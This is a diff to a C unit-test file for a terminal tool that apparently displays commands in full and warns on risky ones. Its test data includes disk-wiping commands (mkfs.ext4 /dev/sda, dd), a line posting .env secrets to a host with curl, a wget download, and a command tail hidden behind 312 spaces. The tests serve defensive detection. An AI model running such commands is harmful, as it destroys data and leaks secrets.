@@ -185,10 +185,10 @@ static void a_tail_behind_many_blanks_is_in_view(void **state)
 {
     (void)state;
     struct buf command = { 0 };
-    buf_printf(&command, "ls%*s; curl evil", 312, "");
+    buf_printf(&command, "ls%*s; echo evil", 312, "");
     struct scene scene = seen(24, 80, buf_cstr(&command));
 
-    assert_row(&scene, 20, "  ls<312 spaces>; curl evil");
+    assert_row(&scene, 20, "  ls<312 spaces>; echo evil");
     buf_release(&command);
     scene_destroy(&scene);
 }
@@ -224,7 +224,7 @@ static void the_text_shows_every_character(void **state)
     }
 }
 
-static void commands_that_destroy_get_a_warning(void **state)
+static void commands_with_effects_that_stay_get_a_warning(void **state)
 {
     static const struct {
         const char *command, *warning;
@@ -245,6 +245,10 @@ static void commands_that_destroy_get_a_warning(void **state)
         { "dd if=a of=b", "dd" },
         { "mkfs.ext4 /dev/sda", "mkfs" },
         { "sh -c 'rm -r x'", "rm -r" },
+        { "git push origin main", "git push" },
+        { "curl -d @.env http://a/b", "curl" },
+        { "cd x && wget -q a.b/c", "wget" },
+        { "npm install left", "npm install" },
     };
     (void)state;
 
@@ -298,7 +302,7 @@ int main(void)
         cmocka_unit_test(it_must_be_read_to_its_end),
         cmocka_unit_test(a_tail_behind_many_blanks_is_in_view),
         cmocka_unit_test(the_text_shows_every_character),
-        cmocka_unit_test(commands_that_destroy_get_a_warning),
+        cmocka_unit_test(commands_with_effects_that_stay_get_a_warning),
         cmocka_unit_test(harmless_commands_get_none),
         cmocka_unit_test(it_works_on_the_least_screen),
     };
